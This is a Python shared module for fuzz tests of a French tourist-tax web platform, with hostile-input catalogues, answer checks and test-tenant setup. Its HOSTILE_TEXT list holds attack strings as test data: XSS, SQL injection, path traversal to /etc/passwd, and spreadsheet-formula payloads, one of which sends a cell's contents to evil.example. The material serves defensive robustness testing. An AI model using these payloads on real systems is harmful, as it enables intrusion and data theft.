"""What the fuzzing suites share: the hostile values, the collectivité they are thrown at, and
the checks every answer must pass.

The promise under test (issue "hardening"): whatever a browser, a spreadsheet or a program
sends, the product answers without a 500 and without a traceback, every refusal is worded in
French, and a refused request leaves the collectivité's data exactly as it was.

Hypothesis runs derandomized and without an example database, so that CI sees the same inputs
on every run. For a longer local hunt: `FUZZ_EXAMPLES=10` multiplies the examples,
`FUZZ_SHRINK=1` shrinks a failure to its smallest form, `FUZZ_TRACE=1` (with `pytest -s`) prints
each route's time and how many submissions it refused and accepted.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import sys
import traceback
from dataclasses import dataclass, field
from datetime import date, datetime
from html import unescape
from pathlib import Path
from urllib.parse import quote, urlsplit

import sqlalchemy as sa
import wtforms
from flask import current_app
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from werkzeug import exceptions as http_errors
from werkzeug.datastructures import MultiDict
from werkzeug.test import encode_multipart

from plateforme.database import TenantModel, db
from tenants.access.rules import Role
from tenants.agents import accounts as agent_accounts
from tenants.audit.journal import Actor, ActorKind
from tenants.collectivite import documents, news, tutorials
from tenants.collectivite import settings as collectivite_settings
from tenants.core.printing import Sender
from tenants.declarations import desk, filing
from tenants.declarations.computing import StayInput
from tenants.hosts import importing as hosts_importing
from tenants.hosts import profile
from tenants.hosts.accounts import reset_token
from tenants.hosts.guide import guide_pdf
from tenants.hosts.models import Hebergement, Host
from tenants.recovery import platforms
from tenants.recovery.models import RecoveryCase
from tenants.tax import importing as tax_importing
from tenants.tax.models import Deliberation
from tests.conftest import create_tenant, host_of, isolated
from tests.tenants.conftest import (
    AGENT_PASSWORD,
    PASSWORD,
    Client,
    ConsoleClient,
    activated,
    issue,
    keys_for,
    make_agent,
)

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
SCALE = max(1, int(os.environ.get("FUZZ_EXAMPLES", "1") or 1))
SHRINK = os.environ.get("FUZZ_SHRINK", "") not in ("", "0")
TRACE = os.environ.get("FUZZ_TRACE", "") not in ("", "0")


#: A failing example holding a 100 000-character value makes Hypothesis warn while it prints
#: it, and the suite turns warnings into errors: the warning would hide the failure.
QUIET = "ignore:Generating overly large repr:hypothesis.errors.HypothesisWarning"


def fuzz_settings(examples: int) -> settings:
    """Bounded and deterministic: the same inputs on every run, nothing remembered between
    runs, no deadline (a page may take longer on a loaded CI machine). No shrinking unless
    FUZZ_SHRINK=1: a request costs tens of milliseconds and shrinking one failure runs hundreds;
    the failing example is reported as generated, which derandomize makes reproducible."""
    phases = tuple(Phase) if SHRINK else (Phase.explicit, Phase.reuse, Phase.generate)
    return settings(max_examples=examples * SCALE, deadline=None, derandomize=True,
                    database=None, print_blob=False, phases=phases,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.large_base_example,
                                           HealthCheck.filter_too_much])


# --- hostile values --------------------------------------------------------------------------

HUGE = "Ça " * 34_000              # 102 000 characters, accents included
LONE_SURROGATE = "\ud800"           # sent as the bytes a broken encoder writes (CESU-8)

HOSTILE_TEXT = (
    "", " ", "  \t\r\n ", "\u00a0\u202f", HUGE, "x" * 100_000,
    "\x00", "a\x00b", "\x01\x02\x07\x08\x1b[2J\x7f", "\r\n\r\nSet-Cookie: x=1",
    "\u202egnp.exe\u202c", "\u200f\u200e\u200b\u2060", "e\u0301\u0302\u0303\u0304" * 30,
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357" * 10, "\ufeff", "\ufffd", LONE_SURROGATE,
    "１２３", "٣٤٥", "²", "߀", "🏖️👨‍👩‍👧‍👦", "\U0010ffff",
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "=1+1", "+33 6 12 34 56 78",
    "-2+3", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0",
    "1,5", "1 234,56", "12,50 €", "-1", "-0", "0", "00000", "99999999999999999999999",
    "999999999", "21474836,48", "2147483648",
    "9" * 5000, "1e400", "1E+30", "1e-30", "NaN", "Infinity", "-Infinity", "0x1F", "1_000",
    "31/02/2026", "99/99/99999", "2026-02-31", "2026-13-01", "0000-00-00", "0001-01-01",
    "9999-12-31", "10000-01-01", "-2026-07-01", "2026-07-10T25:61", "1er janvier",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "%s%n%x",
    "' OR '1'='1", "'; DROP TABLE hosts; --", "../../../../etc/passwd", "null", "true", "[]",
)

HOSTILE_FILES = (
    b"", b"\x00" * 64, b"\xff\xfe", b"\xfe\xff\x00", b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf",
    b"%PDF-1.4\n", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer<<>>\n%%EOF",
    b"PK\x03\x04" + b"\x00" * 26, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24,
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 16, b"GIF89a", b"\xff\xd8\xff\xe0",
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
    b"a;b;c\r\n" * 3, ("é;ü;ß\n".encode("cp1252")) * 2, b"=1+1;@SUM(A1);-2\n" * 2,
    b"x" * 200_000, b"\n" * 5000, b'"unterminated;quote\n1;2\n',
)


# A value typed in a field: the catalogue above, what a person would type, or anything.
any_text = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=40),
    st.from_regex(r"-?[0-9０-９]{1,25}([.,][0-9]{1,6})?", fullmatch=True),
    st.dates(min_value=date(1, 1, 1)).map(date.isoformat),
    st.dates(min_value=date(1, 1, 1)).map(lambda d: d.strftime("%d/%m/%Y")),
)
hostile_bytes = st.one_of(st.sampled_from(HOSTILE_FILES), st.binary(max_size=2048))


def urlencoded(pairs: list[tuple[str, str]]) -> bytes:
    """A form body as a browser sends it; a lone surrogate goes as the bytes a broken encoder
    writes (the server must decode them, not crash on them)."""
    def enc(value: str) -> str:
        return quote(value.encode("utf-8", "surrogatepass"), safe="")

    return "&".join(f"{enc(key)}={enc(value)}" for key, value in pairs).encode()


def no_surrogates(value: str) -> str:
    """Multipart bodies are encoded by the test client, which refuses surrogates."""
    return value.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


# --- the checks every answer passes --------------------------------------------------------


def _english_fragments() -> tuple[str, ...]:
    """WTForms' and Werkzeug's default (English) messages: none may reach a page."""
    pot = Path(wtforms.__file__).parent / "locale" / "wtforms.pot"
    found = set()
    for msgid in re.findall(r'^msgid(?:_plural)? "(.+)"$', pot.read_text(), re.M):
        fragment = msgid.split("%(")[0].split("'%s")[0].strip()
        if len(fragment) >= 10:
            found.add(fragment)
    for error in vars(http_errors).values():
        described = getattr(error, "description", None)
        if isinstance(error, type) and issubclass(error, http_errors.HTTPException) \
                and isinstance(described, str) and described:
            found.add(described[:40])
    return tuple(sorted(found))


ENGLISH_FRAGMENTS = _english_fragments()
ENGLISH_WORDS = re.compile(
    r"\b(the|must|should|please|invalid|field|required|not a valid|cannot|could not|"
    r"error occurred|is not|are not|value|characters? long|at least|at most)\b", re.I)
QUOTED = re.compile(r"«[^»]*»|\"[^\"]*\"|“[^”]*”")
ERROR_BLOCKS = re.compile(
    r'<(p|div)[^>]*class="(?:error|alert alert-error)"[^>]*>(.*?)</\1>', re.S)
ALERTS = re.compile(r'<(p|div)[^>]*class="alert[^"]*"[^>]*>(.*?)</\1>', re.S)


def _plain(html: str) -> str:
    return unescape(" ".join(re.sub(r"<[^>]+>", " ", html).split()))


def error_messages(html: str) -> list[str]:
    """The refusals a page shows: field errors and error alerts, tags stripped."""
    return [_plain(block) for _tag, block in ERROR_BLOCKS.findall(html)]


def all_messages(html: str) -> list[str]:
    return [_plain(block) for _tag, block in ALERTS.findall(html)] + error_messages(html)


FRENCH_MARKERS = re.compile(
    r"[éèêàâçùûôîœ]|\b(le|la|les|de|des|du|un|une|est|et|au|aux|pas|ne|en|pour|ou|sur|dans|"
    r"ce|cette|ligne|fichier|colonnes?|valeur|nombre|invalide|manquante?|vide|inconnue?s?|"
    r"trop|plus|moins|entre|avec|sans|attendue?|impossible|absente?s?|obligatoire|"
    r"indiquez|choisissez|saisissez)\b", re.I)


def english_in(message: str) -> bool:
    """English words in a message, leaving out what it quotes of the input (« … »)."""
    return bool(ENGLISH_WORDS.search(QUOTED.sub(" ", message)))


def french(message: str) -> bool:
    """A message a French reader understands: French words, none of English (what it quotes
    of the input aside)."""
    said = QUOTED.sub(" ", message)
    return bool(FRENCH_MARKERS.search(said)) and not ENGLISH_WORDS.search(said)


@dataclass
class Answer:
    """What an answer was: a refusal (nothing may have changed), and what it said."""

    status: int
    refused: bool
    messages: list[str] = field(default_factory=list)


def check_answer(response, what: str, *, allowed: tuple[int, ...] = ()) -> Answer:
    """No 500, no traceback, French words only; returns whether it is a refusal."""
    status = response.status_code
    body = response.get_data()
    text = body.decode("utf-8", "replace")
    assert status < 500 or status in allowed, f"{what}: HTTP {status}\n{text[:2000]}"
    assert "Traceback (most recent call last)" not in text, f"{what}: a traceback\n{text[:2000]}"
    assert "Werkzeug Debugger" not in text, what
    mimetype = response.mimetype
    if 300 <= status < 400 or not text.strip():
        # A redirect's body is Werkzeug's, which no browser shows; what the person reads is the
        # next page (`follow`). An empty body says nothing (PayFiP's notification).
        return Answer(status, status >= 400)
    if mimetype == "text/html":
        assert '<html lang="fr">' in text, f"{what}: HTTP {status}, not a French page\n" \
                                          f"{text[:1000]}"
        leaked = [fragment for fragment in ENGLISH_FRAGMENTS if fragment in text]
        assert not leaked, f"{what}: English default message(s) {leaked}"
        shown = all_messages(text)
        english = [message for message in shown if english_in(message)]
        assert not english, f"{what}: English message(s) {english}"
        errors = error_messages(text)
        if status >= 400:
            title = re.search(r"<h1[^>]*>(.*?)</h1>", text, re.S)
            said = _plain(title.group(1)) if title else ""
            assert errors or shown or (said and not english_in(said)), \
                f"{what}: HTTP {status} without a French reason\n{text[:1500]}"
        return Answer(status, status >= 400 or bool(errors), shown)
    if mimetype == "application/json":
        data = response.get_json()
        words = " ".join(_json_strings(data))
        assert not english_in(words), f"{what}: English in JSON {data}"
        if status >= 400:
            assert words.strip(), f"{what}: HTTP {status} without a French reason: {data}"
        return Answer(status, status >= 400, [words])
    if status >= 400:
        assert not english_in(text[:2000]), f"{what}: {text[:300]}"
    return Answer(status, status >= 400)


def _json_strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _json_strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _json_strings(v)]
    return []


def follow(client, response, what: str) -> Answer:
    """A redirect's page, read as the browser shows it (the flashed refusal, if any)."""
    location = response.headers.get("Location", "")
    parts = urlsplit(location)
    if parts.netloc and parts.netloc != client.host:
        return Answer(response.status_code, False)  # PayFiP's page, outside the product
    page = client.get(parts.path + (f"?{parts.query}" if parts.query else ""))
    answer = check_answer(page, f"{what} → {location}")
    html = page.text if page.mimetype == "text/html" else ""
    refused = "alert alert-error" in html and "alert alert-success" not in html
    return Answer(response.status_code, refused, answer.messages)


# --- nothing half-saved ----------------------------------------------------------------------

#: Tables a refusal writes to on purpose; every other table must be untouched by a refusal.
WRITTEN_BY_REFUSALS = {
    "audit_events": "a refusal worth knowing is journaled (failed logins, codes refused)",
    "login_throttles": "every failed attempt counts against its throttle",
    "host_sessions": "each request moves the session's idle clock",
    "agent_sessions": "each request moves the session's idle clock",
    "remember_tokens": "a remembered browser trades its token on its next visit",
}


def business_state(tenant) -> dict[str, tuple[int, str]]:
    """Every business table of the collectivité: its row count and a digest of its rows (on
    PostgreSQL in one round trip: the fuzzing takes this twice per request)."""
    tables = [t for t in TenantModel.metadata.sorted_tables if t.name not in WRITTEN_BY_REFUSALS]
    with db.tenant_context(tenant):
        session = db.session
        if current_app.config["DATABASE_URL"].startswith("postgresql"):
            digests = [f'(SELECT count(*) || \':\' || coalesce(md5(string_agg(t::text, \'|\' '
                       f'ORDER BY t::text)), \'\') FROM "{tenant.schema}"."{table.name}" t)'
                       for table in tables]
            row = session.execute(sa.text(f"SELECT ARRAY[{', '.join(digests)}]")).scalar_one()
        else:
            digests = []
            for table in tables:
                line = " || ',' || ".join(f'quote("{c.name}")' for c in table.columns)
                digests.append(f"(SELECT count(*) || ':' || coalesce(group_concat(x, '|'), '') "
                               f'FROM (SELECT {line} AS x FROM "{table.name}" ORDER BY x))')
            row = session.execute(sa.text(f"SELECT {', '.join(digests)}"),
                                  bind_arguments={"clause": sa.select(tables[0])}).one()
        state = {}
        for table, value in zip(tables, row, strict=True):
            count, _, content = value.partition(":")
            state[table.name] = (int(count), hashlib.sha256(content.encode()).hexdigest())
        session.rollback()
    return state


def changed_tables(before: dict, after: dict) -> list[str]:
    return sorted(name for name in before if before[name] != after.get(name))


# --- sending ----------------------------------------------------------------------------------


def post_form(client, path: str, pairs: list[tuple[str, str]],
              files: list[tuple[str, bytes, str]] = (), **kwargs):
    """A form as a browser posts it: urlencoded, or multipart when files go with it."""
    headers = kwargs.pop("headers", {})
    if files:
        data: dict[str, list] = {}
        for key, value in pairs:
            data.setdefault(no_surrogates(key), []).append(no_surrogates(value))
        for key, content, filename in files:
            data.setdefault(key, []).append((io.BytesIO(content), no_surrogates(filename)))
        # Encoded here, in memory: the test client spools a large body to a temporary file it
        # never closes (a ResourceWarning, an error in this suite).
        boundary, body = encode_multipart(MultiDict(data))
        return isolated(client.http.post, path, base_url=client.base, data=body,
                        content_type=f"multipart/form-data; boundary={boundary}",
                        headers=headers, **kwargs)
    return isolated(client.http.post, path, base_url=client.base, data=urlencoded(pairs),
                    content_type="application/x-www-form-urlencoded", headers=headers,
                    **kwargs)


CSRF_RE = re.compile(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"')


def csrf_token(client, *pages: str) -> str:
    """The session's CSRF token, from the first of `pages` that has a form (a page may stop
    having one: an invitation once accepted)."""
    for page in pages:
        html = client.get(page).text
        match = CSRF_RE.search(html) or re.search(r'name="csrf_token"[^>]*value="([^"]+)"',
                                                  html)
        if match:
            return match.group(1)
    raise AssertionError(f"no CSRF token on {pages}")


def today_at(day: date) -> datetime:
    return datetime(day.year, day.month, day.day, 8, 0)


# --- the collectivité the fuzzing is thrown at -------------------------------------------------

NOW = datetime(2026, 8, 20, 8, 0)     # UTC: a Thursday, 10 h in Paris
JULY = "2026-07"
REFERENCES = {"Gîte des Lilas": "SOR-0001", "Studio du Pont": "SOR-0002",
              "Chambres du Moulin": "SOR-0003", "Camping de la Rivière": "SOR-0004"}


@dataclass
class World:
    """Vallée Verte with something behind every URL: its DELTA deliberations, the fixture's
    hosts, Élodie Martin logged in with a draft, a closure and a recovery case, an
    administrator logged in to the console, a news item, a document, a tutorial, a platform's
    statement, and agents at each step of the console's door."""

    app: object
    tenant: object
    clock: object
    host_email: str
    admin_login: tuple[str, str]
    host: object = None              # Élodie Martin's browser, logged in, CGU accepted
    admin: object = None             # the administrator's browser, logged in
    anonymous: object = None         # a browser with an activation code and a reset link pending
    ids: dict = field(default_factory=dict)
    step_clients: dict = field(default_factory=dict)   # the console's door, per endpoint
    outcomes: dict = field(default_factory=dict)       # what → [refused, accepted] (FUZZ_TRACE)

    def heal(self, visitor) -> bool:
        """Log the host or the administrator back in when a fuzzed request logged them out;
        whether it had to."""
        if visitor is self.host and self.host.get("/tableau-de-bord").status_code != 200:
            self.host.login(self.host_email, PASSWORD)
            self.host.accept_cgu()
            assert self.host.get("/tableau-de-bord").status_code == 200
            return True
        if visitor is self.admin and self.admin.get("/admin/").status_code != 200:
            response = self.admin.console_login(*self.admin_login, self.clock)
            assert response.status_code == 302, response.text[:500]
            return True
        return False


def trace(message: str) -> None:
    """FUZZ_TRACE=1: what is being fuzzed and how long it took, on stderr (`pytest -s`)."""
    if TRACE:
        print(message, file=sys.stderr, flush=True)


def run_command(app, *args):
    return app.test_cli_runner().invoke(args=[str(arg) for arg in args])


def build_world(app, utc_clock, clock) -> World:
    """The world, built through the product's own functions and pages (today is 20 August
    2026: July is open to declarations, June's recovery case is at its mise en demeure)."""
    utc_clock[0] = NOW
    today = NOW.date()
    test = Actor(label="fuzzing")
    tenant = create_tenant(app, "vallee", "Vallée Verte", kind="communaute_de_communes",
                           siren="200068609")
    with db.tenant_context(tenant):
        collectivite_settings.get(db.session).support_phone = "+33475123456"
        db.session.commit()
    tax_importing.import_file(FIXTURES / "delta_2026.xml", [tenant], test)
    with db.tenant_context(tenant):
        session = db.session
        hosts_importing.import_hosts(session, (FIXTURES / "hebergeurs.csv").read_bytes())
        for item in session.scalars(sa.select(Hebergement)):
            item.started_on, item.reference = date(2026, 6, 1), REFERENCES.get(item.name)
            if item.name == "Chambres du Moulin":
                item.insee = "07102"
        session.commit()
    host_email = activated(tenant)
    for args in (("declarations", "remind", "vallee"),
                 ("recovery", "run", "vallee", "--date", "2026-08-20"),
                 ("recovery", "run", "vallee", "--date", "2026-09-04")):
        result = run_command(app, *args)
        assert result.exit_code == 0, result.output

    world = World(app, tenant, clock, host_email,
                  make_agent(tenant, "admin@vallee-verte.fr", Role.ADMINISTRATEUR,
                             "Alice Admin"))
    verifier = make_agent(tenant, "verif@vallee-verte.fr", Role.AGENT, "Victor Verif")
    with db.tenant_context(tenant):
        session = db.session
        by_name = {h.name: h for h in session.scalars(sa.select(Hebergement))}
        gite, moulin = by_name["Gîte des Lilas"], by_name["Chambres du Moulin"]
        cal = filing.calendar_of(session)
        july = cal.period(JULY)
        as_host = desk.Context(session, tenant.schema, cal,
                               Actor(ActorKind.HOST, gite.host_id, host_email),
                               "Élodie Martin", today)
        as_agent = desk.Context(session, tenant.schema, cal, test, "Alice Admin", today,
                                "Registre papier reçu", on_behalf=True)
        world.ids.update(
            gite=gite.id, moulin=moulin.id, durand=moulin.host_id,
            gite_stay=desk.add(as_host, gite, july, StayInput(
                date(2026, 7, 10), date(2026, 7, 13), 3, 1)).id,
            moulin_stay=desk.add(as_agent, moulin, july, StayInput(
                date(2026, 7, 2), date(2026, 7, 4), 2)).id,
            closure=profile.add_closure(session, gite, date(2026, 11, 1),
                                        date(2026, 11, 30)).id,
            news=news.save(session, None, {"title": "Bienvenue", "body": "Le **nouveau** site.",
                                           "published_at": None, "pinned": False}, test).id,
            document=documents.add(session, "Guide", guide_pdf(Sender(
                name="Vallée Verte", support_phone="", home_url="https://x.fr/"))).id,
            tutorial=tutorials.add(session, "Déclarer en vidéo", "https://example.fr/video",
                                   "video").id,
            statement=platforms.import_statement(
                session, (FIXTURES / "platform_statements" / "airbnb_2026_s1.csv").read_bytes(),
                "airbnb_2026_s1.csv", test).id,
            deliberation=session.scalar(sa.select(sa.func.min(Deliberation.id))),
            case=session.scalar(sa.select(RecoveryCase.id).where(
                RecoveryCase.hebergement_id == gite.id).order_by(RecoveryCase.id)),
            target_agent=agent_accounts.create(session, "cible@vallee-verte.fr",
                                               "Claire Cible", Role.AGENT.value).id)
        enroller = agent_accounts.create(session, "nouveau@vallee-verte.fr", "Noé Nouveau",
                                         Role.AGENT.value)
        agent_accounts.set_password(session, enroller, AGENT_PASSWORD, "Vallée Verte")
        invited = agent_accounts.create(session, "invite@vallee-verte.fr", "Inès Invitée",
                                        Role.AGENT.value)
        session.flush()
        world.ids["invitation"] = agent_accounts.invitation_token(keys_for(tenant), invited)
        elodie = session.scalar(sa.select(Host).where(Host.email == host_email))
        reset_link = reset_token(keys_for(tenant), elodie)
        session.commit()
    assert world.ids["case"] is not None

    here = host_of(tenant.slug)
    world.host = Client(app, here)
    world.host.login(host_email)
    world.host.accept_cgu()
    world.admin = ConsoleClient(app, here)
    assert world.admin.console_login(*world.admin_login, clock).status_code == 302
    # Louis Petit's activation letter, prepared as a file to take (as an agent asks for it).
    with db.tenant_context(tenant):
        petit = db.session.scalar(sa.select(Host.id).where(Host.last_name == "Petit"))
        db.session.rollback()
    world.admin.post("/admin/hebergeurs/courriers", {"host": str(petit), "format": "pdf",
                                                     "confirm": "y"},
                     page="/admin/hebergeurs/")
    batch = re.search(r"/admin/hebergeurs/courriers/(\d+)/telecharger",
                      world.admin.get("/admin/hebergeurs/courriers").text)
    world.ids["batch"] = int(batch.group(1)) if batch else 0
    world.ids["job"] = 0  # no task is held here: its refusal is what gets fuzzed
    # A stranger's browser: Paul Durand's activation code typed, Élodie's reset link followed.
    world.anonymous = Client(app, here)
    world.anonymous.post("/activation/", {"code": issue(tenant, "Durand")})
    world.anonymous.get(f"/reinitialisation/{reset_link}")
    # The console's door, one browser per step.
    door = ConsoleClient(app, here)
    clock.tick()
    door.post("/admin/connexion", {"email": verifier[0], "password": AGENT_PASSWORD})
    enrolling = ConsoleClient(app, here)
    enrolling.post("/admin/connexion", {"email": "nouveau@vallee-verte.fr",
                                        "password": AGENT_PASSWORD})
    world.step_clients.update({
        "console_auth.login": ConsoleClient(app, here),
        "console_auth.logout": ConsoleClient(app, here),
        "console_auth.invitation": ConsoleClient(app, here),
        "console_auth.verify": door,
        "console_auth.enrol": enrolling,
    })
    return world


def describe(failure: BaseException) -> str:
    """A failure as the report shows it, with what Hypothesis groups (flaky runs)."""
    text = f"{type(failure).__name__}: {failure}"
    if not isinstance(failure, AssertionError) and failure.__traceback__ is not None:
        where = traceback.extract_tb(failure.__traceback__)[-3:]
        text += "".join(f"\n    at {frame.filename}:{frame.lineno} {frame.line}"
                        for frame in where)
    for inner in getattr(failure, "exceptions", ()):
        text += "\n  caused by " + describe(inner)
    return text[:4000]
